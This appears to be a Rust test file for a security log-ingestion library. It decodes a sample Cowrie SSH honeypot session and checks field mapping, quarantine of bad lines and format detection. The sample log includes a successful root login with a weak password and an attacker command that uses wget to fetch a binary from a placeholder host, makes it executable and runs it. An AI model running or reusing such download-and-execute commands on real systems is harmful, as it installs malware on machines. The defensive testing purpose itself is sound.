//! Cowrie: a full SSH session as Cowrie 2.x logs it (connect, client version, failed and
//! successful logins, commands, a download, a forwarding request, close), reassembled by session
//! id; bad lines quarantined; format sniffing.

use std::io::Cursor;

use cynex_ingest::cowrie::{decode_some, sniff_log, Decoded};
use cynex_ingest::records::RecordSplitter;

/// A session in Cowrie's own output format (field names and message texts as Cowrie writes them).
pub(crate) const SESSION: &str = r#"{"eventid":"cowrie.session.connect","src_ip":"203.0.113.45","src_port":51234,"dst_ip":"192.0.2.10","dst_port":2222,"session":"8a3f1c2b9d4e","protocol":"ssh","message":"New connection: 203.0.113.45:51234 (192.0.2.10:2222) [session: 8a3f1c2b9d4e]","sensor":"hp-tokyo-1","timestamp":"2026-11-01T03:14:15.926535Z"}
{"eventid":"cowrie.client.version","version":"SSH-2.0-Go","message":"Remote SSH version: SSH-2.0-Go","sensor":"hp-tokyo-1","timestamp":"2026-11-01T03:14:16.101000Z","src_ip":"203.0.113.45","session":"8a3f1c2b9d4e"}
{"eventid":"cowrie.login.failed","username":"root","password":"admin","message":"login attempt [root/admin] failed","sensor":"hp-tokyo-1","timestamp":"2026-11-01T03:14:17.000000Z","src_ip":"203.0.113.45","session":"8a3f1c2b9d4e"}
{"eventid":"cowrie.login.success","username":"root","password":"123456","message":"login attempt [root/123456] succeeded","sensor":"hp-tokyo-1","timestamp":"2026-11-01T03:14:18.500000Z","src_ip":"203.0.113.45","session":"8a3f1c2b9d4e"}
{"eventid":"cowrie.command.input","input":"cd /tmp; wget http://198.51.100.7/bins/x86; chmod +x x86; ./x86","message":"CMD: cd /tmp; wget http://198.51.100.7/bins/x86; chmod +x x86; ./x86","sensor":"hp-tokyo-1","timestamp":"2026-11-01T03:14:20.000000Z","src_ip":"203.0.113.45","session":"8a3f1c2b9d4e"}
{"eventid":"cowrie.session.file_download","url":"http://198.51.100.7/bins/x86","outfile":"var/lib/cowrie/downloads/3b1f0e4c2a9d8e7f6a5b4c3d2e1f0a9b8c7d6e5f4a3b2c1d0e9f8a7b6c5d4e3f","shasum":"3b1f0e4c2a9d8e7f6a5b4c3d2e1f0a9b8c7d6e5f4a3b2c1d0e9f8a7b6c5d4e3f","message":"Downloaded URL (http://198.51.100.7/bins/x86) with SHA-256 3b1f0e4c2a9d8e7f6a5b4c3d2e1f0a9b8c7d6e5f4a3b2c1d0e9f8a7b6c5d4e3f to var/lib/cowrie/downloads/3b1f0e4c2a9d8e7f6a5b4c3d2e1f0a9b8c7d6e5f4a3b2c1d0e9f8a7b6c5d4e3f","sensor":"hp-tokyo-1","timestamp":"2026-11-01T03:14:21.000000Z","src_ip":"203.0.113.45","session":"8a3f1c2b9d4e"}
{"eventid":"cowrie.command.failed","input":"busybox ECCHI","message":"Command not found: busybox ECCHI","sensor":"hp-tokyo-1","timestamp":"2026-11-01T03:14:22.000000Z","src_ip":"203.0.113.45","session":"8a3f1c2b9d4e"}
{"eventid":"cowrie.direct-tcpip.request","dst_ip":"93.184.216.34","dst_port":443,"src_ip":"203.0.113.45","src_port":0,"message":"direct-tcp connection request to 93.184.216.34:443 from 127.0.0.1:0","sensor":"hp-tokyo-1","timestamp":"2026-11-01T03:14:23.000000Z","session":"8a3f1c2b9d4e"}
{"eventid":"cowrie.session.closed","duration":9.5,"message":"Connection lost after 9 seconds","sensor":"hp-tokyo-1","timestamp":"2026-11-01T03:14:25.426535Z","src_ip":"203.0.113.45","session":"8a3f1c2b9d4e"}
"#;

fn decode(text: &[u8]) -> Decoded {
    let mut split = RecordSplitter::new(Cursor::new(text), 0, 0);
    let mut d = Decoded::default();
    while decode_some(&mut split, "cowrie.json", None, 0, 4, &mut d).unwrap() {}
    d
}

#[test]
fn a_session_reassembled() {
    let d = decode(SESSION.as_bytes());
    assert!(d.quarantine.is_empty(), "{:?}", d.quarantine);
    assert_eq!(d.events.len(), 9);
    assert!(d.events.iter().all(|e| e.session_uid.as_deref() == Some("8a3f1c2b9d4e")));
    let by = |id: &str| d.events.iter().find(|e| e.event_type.as_deref() == Some(id)).unwrap();
    let ok = by("cowrie.login.success");
    assert_eq!(
        (ok.class_uid, ok.user_name.as_deref(), ok.unmapped_password.as_deref()),
        (Some(3002), Some("root"), Some("123456"))
    );
    assert_eq!(by("cowrie.login.failed").action.as_deref(), Some("failure"));
    assert!(by("cowrie.command.input").actor_process_cmd_line.as_deref().unwrap().contains("wget"));
    assert_eq!(by("cowrie.command.failed").actor_process_cmd_line.as_deref(), Some("busybox ECCHI"));
    let dl = by("cowrie.session.file_download");
    assert_eq!(dl.url_text.as_deref(), Some("http://198.51.100.7/bins/x86"));
    assert_eq!(dl.file_hashes_sha256.as_deref().map(str::len), Some(64));
    let fwd = by("cowrie.direct-tcpip.request");
    assert_eq!((fwd.dst_endpoint_ip.as_deref(), fwd.dst_endpoint_port), (Some("93.184.216.34"), Some(443)));
    assert_eq!(by("cowrie.client.version").finding_info_title.as_deref(), Some("SSH-2.0-Go"));
    let connect = by("cowrie.session.connect");
    assert_eq!((connect.src_endpoint_ip.as_deref(), connect.dst_endpoint_port), (Some("203.0.113.45"), Some(2222)));
}

#[test]
fn bad_lines_quarantined_and_formats_sniffed() {
    let mut text = SESSION.lines().next().unwrap().to_string();
    text.push('\n');
    text.push_str("{\"eventid\":\"cowrie.login.failed\",\"timestamp\":\"2026-11-01T03:14:17Z\",\"src_port\":\"x\"}\n");
    text.push_str("{\"eventid\":\"kippo.login\",\"timestamp\":\"2026-11-01T03:14:17Z\"}\n");
    text.push_str("{\"eventid\":\"cowrie.session.connect\"}\n");
    text.push_str("not json\n");
    let d = decode(text.as_bytes());
    assert_eq!(d.events.len(), 1);
    let reasons: Vec<String> = d.quarantine.iter().map(|q| format!("{}:{}", q.line.unwrap(), q.reason)).collect();
    assert_eq!(reasons.len(), 4, "{reasons:?}");
    assert!(reasons[0].starts_with("2:src_port is not a port"), "{reasons:?}");
    assert!(
        reasons[1].contains("not a Cowrie event")
            && reasons[2].contains("no timestamp")
            && reasons[3].contains("bad JSON")
    );

    assert_eq!(sniff_log(SESSION.as_bytes()), Some("cowrie"));
    assert_eq!(sniff_log(b"{\"timestamp\":\"x\",\"event_type\":\"dns\"}\n"), Some("eve"));
    assert_eq!(sniff_log(b"\n{\n  \"timestamp\": 1\n}"), Some("eve"));
    assert_eq!(sniff_log(b"#separator \\x09\n"), Some("zeek"));
    assert_eq!(sniff_log(b"{\"_path\":\"dns\",\"ts\":1.0}\n"), Some("zeek"));
    assert_eq!(sniff_log(b"hello\n"), None);
}
